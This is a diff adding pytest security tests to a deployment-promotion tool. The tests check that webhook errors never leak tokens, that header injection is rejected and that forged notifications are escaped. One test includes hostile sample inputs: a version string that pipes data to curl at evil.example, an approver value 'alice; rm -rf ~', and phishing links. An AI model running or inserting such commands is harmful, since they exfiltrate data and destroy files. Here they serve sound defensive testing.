@@ -220,3 +220,85 @@ def test_awaiting_approval_suggests_an_approver_who_is_not_the_publisher() -> No
     metadata = json.loads(render("generic", waiting, Links(address="t:7233", namespace="ns"), "a").body)["metadata"]
     assert metadata["approve"].startswith("ferry approve production 1.1.0 --as sre-alice ")
     assert "--address t:7233 --namespace ns --workflow-id promote/production/1.1.0" in metadata["signal"]
+
+
+# ------------------------------------------------------------------------------ from a hostile review
+
+def test_one_bad_event_never_hides_the_good_ones_of_its_batch() -> None:
+    good = json.loads(envelope())["events"][0]
+    stale = {**good, "id": "e2", "timestamp": (NOW - timedelta(hours=1)).isoformat()}
+    odd_host = {**good, "id": "e3", "request": {"host": "registry_1:5000"}}
+    pushes = registry_pushes(json.dumps({"events": [stale, odd_host, good]}).encode(), NOW)
+    assert [p.id for p in pushes] == ["e1"]
+
+
+def test_delivery_errors_never_carry_the_webhook_path_or_the_token() -> None:
+    """An error page echoing the request path, or an HTTP library quoting a malformed URL or header: the message
+    that reaches history, memo and logs names the provider's host and the kind of failure, never the secret."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, HTTPServer
+
+    from activities.notify import _post
+
+    class Echo(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            page = f"Cannot POST {self.path} with {self.headers.get('Authorization')}".encode()
+            self.send_response(404)
+            self.send_header("Content-Length", str(len(page)))
+            self.end_headers()
+            self.wfile.write(page)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = HTTPServer(("127.0.0.1", 0), Echo)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{server.server_address[1]}"
+    try:
+        with pytest.raises(ApplicationError) as refused:
+            _post(f"{base}/services/T0/SECRETPATH", b"{}", {"Authorization": "Bearer SECRETTOKEN"}, 5, "chat")
+        assert "HTTP 404 Not Found" in refused.value.message and refused.value.non_retryable
+        for bad_url, headers in ((f"{base}/services/SECRET PATH", {}),
+                                 (f"{base}/hook", {"Authorization": "Bearer SECRETTOKEN\n"})):
+            with pytest.raises(ApplicationError) as malformed:
+                _post(bad_url, b"{}", headers, 5, "chat")
+            assert malformed.value.non_retryable and "malformed" in malformed.value.message
+            assert "SECRET" not in malformed.value.message, malformed.value.message
+        assert "SECRET" not in refused.value.message, refused.value.message
+    finally:
+        server.shutdown()
+
+
+def test_provider_secrets_are_one_clean_line() -> None:
+    from ferry.alerts import ProviderSpec
+
+    spec = ProviderSpec.model_validate({"name": "a", "type": "generic", "url": "https://h/x", "token": "t0k\n"})
+    assert spec.token is not None and spec.token.get_secret_value() == "t0k"  # a token file's newline
+    for bad in ({"url": "https://h/a b"}, {"token": "a\nb"}, {"headers": {"X-A": "1\r\nX-B: 2"}}):
+        with pytest.raises(pydantic.ValidationError):
+            ProviderSpec.model_validate({"name": "a", "type": "generic", "url": "https://h/x", **bad})
+
+
+def test_forged_notifications_cannot_inject_commands_markup_or_severity() -> None:
+    forged = make_notification(workflow_id="promote/production/1.1.0", run_id="r", position=3,
+                               type_="AwaitingApproval", environment="production", message="<!channel> see "
+                               "<https://evil.example|Approve here>", at="2026-11-30T12:00:00Z",
+                               version="1.2.3 --print | curl -d @- https://evil.example #",
+                               details={"approvers": "alice; rm -rf ~"})
+    metadata = json.loads(render("generic", forged, Links(), "a").body)["metadata"]
+    assert "'1.2.3 --print | curl -d @- https://evil.example #'" in metadata["approve"]
+    assert "'alice; rm -rf ~'" in metadata["approve"]
+    slack = render("slack", forged, Links(), "a").body
+    assert "<!channel>" not in slack and "<https://evil.example|" not in slack and "&lt;!channel&gt;" in slack
+    teams = render("msteams", forged.model_copy(update={"message": "[Approve](https://evil.example)"}), Links(),
+                   "a").body
+    assert "[Approve](https://evil.example)" not in teams
+    from ferry.alerts import Notification
+
+    claimed = Notification.model_validate({**forged.model_dump(), "type": "Applied", "severity": "error"})
+    assert claimed.severity == "info", "severity follows the event type, not the sender's claim"
+    with pytest.raises(pydantic.ValidationError, match="timestamp"):
+        Notification.model_validate({**forged.model_dump(), "at": "yesterday"})
+    with pytest.raises(pydantic.ValidationError):
+        Notification.model_validate({**forged.model_dump(), "resolves": ["x" * 1_000_000]})
